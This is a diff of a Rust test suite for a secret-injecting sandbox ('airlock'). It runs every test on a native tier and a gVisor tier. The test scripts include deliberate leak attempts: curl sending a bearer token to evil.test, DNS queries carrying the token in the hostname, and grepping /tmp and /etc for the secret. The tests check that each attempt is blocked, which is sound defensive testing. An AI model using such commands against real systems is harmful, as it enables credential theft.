@@ -10,6 +10,7 @@
 mod common;
 
 use common::logging_upstream::LoggingUpstream as Upstream;
+use common::tier::Tier;
 use common::CellRun;
 use serde_json::Value;
 use std::path::{Path, PathBuf};
@@ -69,8 +70,8 @@ path_prefixes = ["/v1/"]"#,
         )
     }
 
-    fn run(&self, contract: &str, script: &str) -> CellRun {
-        common::run_in(
+    fn run(&self, tier: Tier, contract: &str, script: &str) -> CellRun {
+        tier.run_in(
             self.dir.path(),
             Some(contract),
             &[
@@ -166,8 +167,8 @@ fn denial_reasons(run: &CellRun) -> Vec<String> {
         .collect()
 }
 
-#[test]
-fn the_upstream_gets_the_value_while_the_cell_only_ever_holds_the_placeholder() {
+both_tiers! {
+fn the_upstream_gets_the_value_while_the_cell_only_ever_holds_the_placeholder(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -182,7 +183,7 @@ fn the_upstream_gets_the_value_while_the_cell_only_ever_holds_the_placeholder() 
          echo '--- files'; grep -rls 'sk-real' /tmp /etc 2>/dev/null; echo end",
         env.value_file.display()
     );
-    let run = env.run(&contract(port), &script);
+    let run = env.run(tier, &contract(port), &script);
     assert_eq!(run.status(), "ok", "{}", run.describe());
     let seen = run.stdout();
     let held = placeholders(&seen);
@@ -223,9 +224,10 @@ fn the_upstream_gets_the_value_while_the_cell_only_ever_holds_the_placeholder() 
     }
     assert!(export.contains("egress.decision"), "{export}");
 }
+}
 
-#[test]
-fn every_other_use_of_a_placeholder_is_refused_and_recorded() {
+both_tiers! {
+fn every_other_use_of_a_placeholder_is_refused_and_recorded(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -261,7 +263,7 @@ fn every_other_use_of_a_placeholder_is_refused_and_recorded() {
     }
     // The cell's resolver is asked for a name carrying the placeholder.
     script.push_str("getent hosts \"$API_TOKEN.api.test\" >/dev/null; echo done");
-    let run = env.run(&contract(port), &script);
+    let run = env.run(tier, &contract(port), &script);
     assert!(run.stdout().ends_with("done\n"), "{}", run.describe());
 
     let mut reasons: Vec<String> = egress(&run)
@@ -284,15 +286,22 @@ fn every_other_use_of_a_placeholder_is_refused_and_recorded() {
     ];
     expected.sort();
     assert_eq!(reasons, expected, "{}", run.describe());
-    // The resolver's refusals (one per query type asked), the name masked.
     let dns: Vec<Value> = egress(&run)
         .into_iter()
         .filter(|r| r["protocol"] == "dns")
         .collect();
-    assert!(!dns.is_empty(), "{}", run.describe());
-    for record in &dns {
-        assert_eq!(record["host"], "[PLACEHOLDER].api.test");
-        assert_eq!(record["reason"], "egress.secret_wrong_destination");
+    match tier {
+        // The resolver's refusals (one per query type asked), the name masked.
+        Tier::Native => {
+            assert!(!dns.is_empty(), "{}", run.describe());
+            for record in &dns {
+                assert_eq!(record["host"], "[PLACEHOLDER].api.test");
+                assert_eq!(record["reason"], "egress.secret_wrong_destination");
+            }
+        }
+        // The gVisor tier carries no resolver (docs/threat-model.md, "Tiers"): the
+        // query never leaves the sandbox, so nothing is asked and nothing recorded.
+        Tier::Gvisor => assert!(dns.is_empty(), "{}", run.describe()),
     }
 
     // Only the two redirecting requests reached the upstream, with the value; nothing
@@ -336,14 +345,15 @@ fn every_other_use_of_a_placeholder_is_refused_and_recorded() {
     let (code, out, err) = env.airlock(&["audit", "verify"]);
     assert_eq!(code, 0, "audit verify: {out}{err}");
 }
+}
 
-#[test]
-fn a_placeholder_of_an_ended_run_is_refused() {
+both_tiers! {
+fn a_placeholder_of_an_ended_run_is_refused(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
     let port = up.port;
-    let first = env.run(&contract(port), "echo \"$API_TOKEN\"");
+    let first = env.run(tier, &contract(port), "echo \"$API_TOKEN\"");
     assert_eq!(first.status(), "ok", "{}", first.describe());
     let old = placeholders(&first.stdout());
     assert_eq!(old.len(), 1, "{}", first.describe());
@@ -353,7 +363,7 @@ fn a_placeholder_of_an_ended_run_is_refused() {
            -H 'Authorization: Bearer {old}' http://api.test:{port}/v1/late",
         old = old[0]
     );
-    let second = env.run(&contract(port), &script);
+    let second = env.run(tier, &contract(port), &script);
     assert!(
         second.stdout().starts_with("fresh\n403"),
         "{}",
@@ -367,9 +377,10 @@ fn a_placeholder_of_an_ended_run_is_refused() {
     );
     assert!(up.requests().is_empty(), "{}", up.raw_log());
 }
+}
 
-#[test]
-fn a_value_the_payload_prints_is_redacted_in_what_airlock_stores() {
+both_tiers! {
+fn a_value_the_payload_prints_is_redacted_in_what_airlock_stores(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -381,7 +392,7 @@ fn a_value_the_payload_prints_is_redacted_in_what_airlock_stores() {
          curl -sS --max-time 20 -X POST -H \"Authorization: Bearer $API_TOKEN\" \
            http://api.test:{port}/v1/echo"
     );
-    let run = env.run(&contract(port), &script);
+    let run = env.run(tier, &contract(port), &script);
     assert_eq!(run.status(), "ok", "{}", run.describe());
     assert!(
         run.stdout().contains(&format!("echo Bearer {}", env.value)),
@@ -406,14 +417,15 @@ fn a_value_the_payload_prints_is_redacted_in_what_airlock_stores() {
         );
     }
 }
+}
 
-#[test]
-fn a_secret_the_operator_did_not_define_or_cannot_read_refuses_the_run() {
+both_tiers! {
+fn a_secret_the_operator_did_not_define_or_cannot_read_refuses_the_run(tier) {
     require_cells!();
     let env = Env::bearer();
     let undefined = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
                      secrets:\n  - { name: nobody, env: API_TOKEN }\n";
-    let run = env.run(undefined, "echo ran");
+    let run = env.run(tier, undefined, "echo ran");
     assert_eq!(run.status(), "policy_denied", "{}", run.describe());
     assert!(!run.stdout().contains("ran"), "{}", run.describe());
     assert!(
@@ -425,13 +437,14 @@ fn a_secret_the_operator_did_not_define_or_cannot_read_refuses_the_run() {
         run.describe()
     );
     std::fs::remove_file(&env.value_file).unwrap();
-    let run = env.run(&contract(80), "echo ran");
+    let run = env.run(tier, &contract(80), "echo ran");
     assert_eq!(run.status(), "policy_denied", "{}", run.describe());
     assert!(!run.stdout().contains("ran"), "{}", run.describe());
 }
+}
 
-#[test]
-fn plain_http_inside_a_connect_tunnel_gets_the_same_swap_and_refusals() {
+both_tiers! {
+fn plain_http_inside_a_connect_tunnel_gets_the_same_swap_and_refusals(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -442,7 +455,7 @@ fn plain_http_inside_a_connect_tunnel_gets_the_same_swap_and_refusals() {
          curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 --proxytunnel -X POST \
            -H \"Authorization: Bearer $API_TOKEN\" http://evil.test:{port}/v1/elsewhere; echo done"
     );
-    let run = env.run(&contract(port), &script);
+    let run = env.run(tier, &contract(port), &script);
     assert!(run.stdout().starts_with("200\n"), "{}", run.describe());
     let connects: Vec<Value> = egress(&run)
         .into_iter()
@@ -464,9 +477,10 @@ fn plain_http_inside_a_connect_tunnel_gets_the_same_swap_and_refusals() {
         up.raw_log()
     );
 }
+}
 
-#[test]
-fn per_domain_http_rules_refuse_other_methods_and_paths_and_recheck_redirects() {
+both_tiers! {
+fn per_domain_http_rules_refuse_other_methods_and_paths_and_recheck_redirects(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -497,7 +511,7 @@ fn per_domain_http_rules_refuse_other_methods_and_paths_and_recheck_redirects() 
             "curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 {attempt}; "
         ));
     }
-    let run = env.run(&contract, &script);
+    let run = env.run(tier, &contract, &script);
     let stdout = run.stdout();
     let codes: Vec<&str> = stdout.lines().collect();
     assert_eq!(
@@ -543,6 +557,7 @@ fn per_domain_http_rules_refuse_other_methods_and_paths_and_recheck_redirects() 
         assert!(show.contains(code), "{code} not stored: {show}");
     }
 }
+}
 
 /// A token provider (a shell script of the test) issuing `tok-<ttl>-<nanos>` and logging
 /// each revocation.
@@ -583,8 +598,8 @@ fn provider_env(expires_at_unix: &str) -> (Env, PathBuf) {
     (env, revoked)
 }
 
-#[test]
-fn a_provider_token_fits_the_deadline_reaches_only_the_upstream_and_is_revoked_at_the_end() {
+both_tiers! {
+fn a_provider_token_fits_the_deadline_reaches_only_the_upstream_and_is_revoked_at_the_end(tier) {
     require_cells!();
     let (env, revoked) = provider_env("99999999999");
     let up = Upstream::start(env.dir.path(), "upstream", None);
@@ -594,7 +609,7 @@ fn a_provider_token_fits_the_deadline_reaches_only_the_upstream_and_is_revoked_a
         "echo \"$API_TOKEN\"; curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 -X POST \
            -H \"Authorization: Bearer $API_TOKEN\" http://api.test:{port}/v1/x"
     );
-    let run = env.run(&contract, &script);
+    let run = env.run(tier, &contract, &script);
     assert_eq!(run.status(), "ok", "{}", run.describe());
     assert!(run.stdout().ends_with("200\n"), "{}", run.describe());
     assert!(
@@ -620,12 +635,13 @@ fn a_provider_token_fits_the_deadline_reaches_only_the_upstream_and_is_revoked_a
         assert!(!text.contains(&token), "the token was stored");
     }
 }
+}
 
-#[test]
-fn a_provider_token_that_would_expire_before_the_deadline_refuses_the_run() {
+both_tiers! {
+fn a_provider_token_that_would_expire_before_the_deadline_refuses_the_run(tier) {
     require_cells!();
     let (env, revoked) = provider_env("1");
-    let run = env.run(&contract(80), "echo ran");
+    let run = env.run(tier, &contract(80), "echo ran");
     assert_eq!(run.status(), "policy_denied", "{}", run.describe());
     assert!(!run.stdout().contains("ran"), "{}", run.describe());
     let error = run.result["error"].as_str().unwrap_or("");
@@ -636,14 +652,15 @@ fn a_provider_token_that_would_expire_before_the_deadline_refuses_the_run() {
         "nothing was issued for the run to revoke"
     );
 }
+}
 
-#[test]
-fn a_run_refused_after_its_token_was_issued_revokes_the_token() {
+both_tiers! {
+fn a_run_refused_after_its_token_was_issued_revokes_the_token(tier) {
     require_cells!();
     let (env, revoked) = provider_env("99999999999");
     let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
          secrets:\n  - { name: api, env: API_TOKEN }\n  - { name: nobody, env: OTHER }\n";
-    let run = env.run(contract, "echo ran");
+    let run = env.run(tier, contract, "echo ran");
     assert_eq!(run.status(), "policy_denied", "{}", run.describe());
     let log = std::fs::read_to_string(&revoked).unwrap_or_default();
     assert!(
@@ -651,15 +668,16 @@ fn a_run_refused_after_its_token_was_issued_revokes_the_token() {
         "the issued token was revoked: {log:?}"
     );
 }
+}
 
-#[test]
-fn a_provider_token_delivered_into_the_env_is_redacted_everywhere_and_revoked() {
+both_tiers! {
+fn a_provider_token_delivered_into_the_env_is_redacted_everywhere_and_revoked(tier) {
     require_cells!();
     let (env, revoked) = provider_env("99999999999");
     let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
          secrets:\n  - { name: api, env: API_TOKEN, deliver: env }\n\
          resources:\n  wall_time_seconds: 30\n";
-    let run = env.run(contract, "echo \"held=$API_TOKEN\"");
+    let run = env.run(tier, contract, "echo \"held=$API_TOKEN\"");
     assert_eq!(run.status(), "ok", "{}", run.describe());
     // The payload's live output is the caller's own terminal: it shows what the cell held.
     let live = run.stdout();
@@ -691,14 +709,15 @@ fn a_provider_token_delivered_into_the_env_is_redacted_everywhere_and_revoked() 
         assert!(!text.contains(&token), "the token is in the {what}");
     }
 }
+}
 
-#[test]
-fn only_a_provider_token_may_be_delivered_into_the_env() {
+both_tiers! {
+fn only_a_provider_token_may_be_delivered_into_the_env(tier) {
     require_cells!();
     let env = Env::bearer();
     let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
          secrets:\n  - { name: api, env: API_TOKEN, deliver: env }\n";
-    let run = env.run(contract, "echo \"held=$API_TOKEN\"");
+    let run = env.run(tier, contract, "echo \"held=$API_TOKEN\"");
     assert_eq!(run.status(), "policy_denied", "{}", run.describe());
     assert!(!run.stdout().contains("held="), "{}", run.describe());
     let error = run.result["error"].as_str().unwrap_or("");
@@ -709,15 +728,17 @@ fn only_a_provider_token_may_be_delivered_into_the_env() {
     let result = serde_json::to_string(&run.result).unwrap();
     assert!(!result.contains(&env.value), "{result}");
 }
+}
 
-#[test]
-fn the_service_injects_the_operators_secrets_as_a_cli_run_does() {
+both_tiers! {
+fn the_service_injects_the_operators_secrets_as_a_cli_run_does(tier) {
     require_cells!();
     let env = Env::bearer();
     let up = Upstream::start(env.dir.path(), "upstream", None);
     let port = up.port;
     // The same operator config, with a [server] naming the contract.
-    std::fs::write(env.dir.path().join("api.yaml"), contract(port)).unwrap();
+    let api = tier.contract(Some(&contract(port))).unwrap();
+    std::fs::write(env.dir.path().join("api.yaml"), api).unwrap();
     let sock = env.dir.path().join("airlock.sock");
     let mut config = std::fs::read_to_string(&env.config).unwrap();
     config.push_str(&format!(
@@ -735,6 +756,7 @@ fn the_service_injects_the_operators_secrets_as_a_cli_run_does() {
         .stderr(Stdio::null())
         .spawn()
         .unwrap();
+    let service = common::host::Supervisor::of(&serve);
     let curl = |args: &[&str]| {
         Command::new("curl")
             .args(["-sS", "--max-time", "120", "--unix-socket"])
@@ -763,11 +785,18 @@ fn the_service_injects_the_operators_secrets_as_a_cli_run_does() {
         &body.to_string(),
         "http://airlock/v1/runs?wait=true",
     ]);
+    let answer = String::from_utf8_lossy(&out.stdout).into_owned();
+    if tier == Tier::Gvisor {
+        // The run has ended (`wait=true`): its sandbox is gone while the service lives.
+        common::tier::assert_sandboxes_of_left_nothing(&service, &answer);
+    }
     let _ = serve.kill();
     let _ = serve.wait();
-    let answer = String::from_utf8_lossy(&out.stdout).into_owned();
     let record: Value = serde_json::from_str(&answer).unwrap_or_else(|e| panic!("{e}: {answer}"));
     assert_eq!(record["status"], "ok", "{answer}");
+    let (_, shown, _) = env.airlock(&["runs", "show", record["run_id"].as_str().unwrap(), "--json"]);
+    let shown: Value = serde_json::from_str(&shown).unwrap();
+    assert_eq!(shown["run"]["plan"]["isolation"], tier.name(), "{shown}");
     let requests = up.requests();
     assert_eq!(
         requests.len(),
@@ -791,4 +820,5 @@ fn the_service_injects_the_operators_secrets_as_a_cli_run_does() {
         !env.store_bytes().contains(&env.value),
         "the store has no value"
     );
+}
 }
